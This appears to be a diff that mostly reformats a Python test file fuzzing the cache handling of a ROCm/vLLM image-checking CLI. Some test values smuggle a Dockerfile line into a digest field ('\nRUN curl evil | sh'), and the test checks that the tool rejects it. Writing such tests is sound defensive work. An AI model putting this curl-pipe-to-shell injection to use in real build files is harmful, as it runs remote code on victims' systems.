@@ -21,8 +21,12 @@ from .conftest import HOSTILE, assert_clean, cli, reply, scripted_server, write
 
 GOOD_DIGEST = "sha256:" + "a" * 64
 json_junk = st.recursive(
-    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=12)),
-    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
+    st.one_of(
+        st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=12)
+    ),
+    lambda inner: st.one_of(
+        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
+    ),
     max_leaves=12,
 )
 
@@ -37,7 +41,11 @@ def _compiled_entries() -> list[Path]:
 
 
 @settings(HOSTILE, max_examples=12)
-@given(content=st.one_of(st.binary(max_size=300), st.builds(lambda v: json.dumps(v).encode(), json_junk)))
+@given(
+    content=st.one_of(
+        st.binary(max_size=300), st.builds(lambda v: json.dumps(v).encode(), json_junk)
+    )
+)
 @example(content=b"[" * 100_000)
 @example(content=b'{"format": 1, "files": {"rocm.toml": [' + b"9" * 5000 + b"]}}")
 @example(content=b'{"format": 1, "files": {"rocm.toml": [{"version": 1e999}]}}')
@@ -70,11 +78,18 @@ def test_compiled_entry_with_altered_records_is_revalidated() -> None:
 
 
 @HOSTILE
-@given(entry=json_junk, at=st.one_of(json_junk, st.sampled_from(["1e400", "nan", "x", 10**30, -1, 1e308, float("inf")])))
+@given(
+    entry=json_junk,
+    at=st.one_of(
+        json_junk, st.sampled_from(["1e400", "nan", "x", 10**30, -1, 1e308, float("inf")])
+    ),
+)
 @example(entry={"digest": "sha256:" + "a" * 64 + "\nRUN evil"}, at=None)
 @example(entry={"digest": GOOD_DIGEST}, at="not a time")
 @example(entry={"digest": GOOD_DIGEST}, at=10**30)
-def test_digest_cache_entries(entry: object, at: object, tmp_path_factory: pytest.TempPathFactory) -> None:
+def test_digest_cache_entries(
+    entry: object, at: object, tmp_path_factory: pytest.TempPathFactory
+) -> None:
     path = tmp_path_factory.mktemp("digests") / "digests.json"
     if isinstance(entry, dict):
         entry = {**entry, "at": at}
@@ -85,7 +100,11 @@ def test_digest_cache_entries(entry: object, at: object, tmp_path_factory: pytes
 
 @pytest.mark.parametrize(
     "content",
-    [b"[" * 100_000, b"\xff\xfe", b'{"k": {"digest": "sha256:' + b"a" * 64 + b'", "at": ' + b"9" * 5000 + b"}}"],
+    [
+        b"[" * 100_000,
+        b"\xff\xfe",
+        b'{"k": {"digest": "sha256:' + b"a" * 64 + b'", "at": ' + b"9" * 5000 + b"}}",
+    ],
     ids=["deep", "not-utf8", "huge-at"],
 )
 def test_digest_cache_file_garbage(content: bytes, tmp_path: Path) -> None:
@@ -100,7 +119,10 @@ def test_cached_digest_is_revalidated_before_printing() -> None:
     bad = "sha256:" + "a" * 64 + "\nRUN curl evil | sh"
     key = "http://127.0.0.1:9/vllm/vllm-openai-rocm:v0.33.0"
     write(cache, json.dumps({key: {"digest": bad, "media_type": None, "at": time.time()}}))
-    o = cli(["image", "--gfx", "gfx942", "--registry", "http://127.0.0.1:9", "--digest"], env={"ROCM_VLLM_HTTP_DEADLINE": "3"})
+    o = cli(
+        ["image", "--gfx", "gfx942", "--registry", "http://127.0.0.1:9", "--digest"],
+        env={"ROCM_VLLM_HTTP_DEADLINE": "3"},
+    )
     assert_clean(o)
     assert o.code == 4 and "RUN curl" not in o.out, str(o)
 
@@ -113,7 +135,9 @@ def test_cached_digest_is_revalidated_before_printing() -> None:
 @example(meta={"url": "x", "status": 200, "headers": {}, "sha256": "0" * 64}, body=b"truncated")
 @example(meta={"url": "x", "status": "200", "headers": []}, body=b"")
 @example(meta={"url": "x", "status": 10**30, "headers": {"etag": 5}}, body=b"")
-def test_http_cache_entries(meta: object, body: bytes, tmp_path_factory: pytest.TempPathFactory) -> None:
+def test_http_cache_entries(
+    meta: object, body: bytes, tmp_path_factory: pytest.TempPathFactory
+) -> None:
     cache = tmp_path_factory.mktemp("http")
     with scripted_server() as srv:
         srv.routes["/f"] = reply(200, b"fresh", {"ETag": '"e"'})
@@ -155,7 +179,9 @@ def test_read_only_cache_dir_only_costs_speed(tmp_path: Path) -> None:
 def test_check_with_an_unusable_cache_dir(tmp_path: Path) -> None:
     blocker = write(tmp_path / "file", "x")
     matrix._load_cached.cache_clear()
-    o = cli(["check", "--gfx", "gfx942", "--quiet"], env={"ROCM_VLLM_CACHE_DIR": str(blocker / "cache")})
+    o = cli(
+        ["check", "--gfx", "gfx942", "--quiet"], env={"ROCM_VLLM_CACHE_DIR": str(blocker / "cache")}
+    )
     assert_clean(o)
     assert o.code in (0, 1)
 
@@ -176,7 +202,10 @@ def test_a_release_refused_from_cached_files_names_the_cache(tmp_path: Path) -> 
         for _ in range(2):
             client = HttpClient(cache_dir=tmp_path, retries=0, sleep=lambda _s: None, deadline=5)
             result = SourceResult("vllm")
-            assert VllmSource(client, ep, {}).read_tag("v0.10.0", sha, Version("0.10.0"), result) is None
+            assert (
+                VllmSource(client, ep, {}).read_tag("v0.10.0", sha, Version("0.10.0"), result)
+                is None
+            )
             client.close()
             reasons.append(result.refused[0].reason)
     assert "HTTP cache" not in reasons[0]
